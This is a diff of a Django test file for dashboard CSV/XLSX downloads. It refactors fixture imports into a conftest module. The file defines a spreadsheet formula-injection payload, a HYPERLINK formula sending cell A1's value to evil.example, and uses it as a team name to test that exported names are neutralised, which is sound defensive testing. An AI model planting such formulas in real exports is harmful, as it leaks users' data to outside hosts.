@@ -14,13 +14,9 @@ from apps.accounts.models import Role, User
 from apps.dashboards.downloads import table_xlsx
 from apps.dashboards.panels import ORG_PANELS
 from tests.accounts.factories import BusinessUnitFactory, TeamFactory
-from tests.dashboards import test_pages as pages
+from tests.dashboards.conftest import BASIC
 
 pytestmark = pytest.mark.django_db
-
-# The pages' fixtures: Shop (Retail) and Credit (Risk), scored, and an executive.
-rubric, scored, units = pages.rubric, pages.scored, pages.units
-two_teams, executive = pages.two_teams, pages.executive
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
@@ -108,7 +104,7 @@ def test_a_member_downloads_only_their_team(two_teams, make_user):
 
 
 def test_formulas_in_names_are_neutralised(units, scored, executive):
-    scored(TeamFactory(business_unit=units[0], name=FORMULA), "2026-Q3", pages.BASIC)
+    scored(TeamFactory(business_unit=units[0], name=FORMULA), "2026-Q3", BASIC)
     client = signed_in(executive)
 
     rows = csv_rows(client.get("/dashboards/data/distribution.csv"))
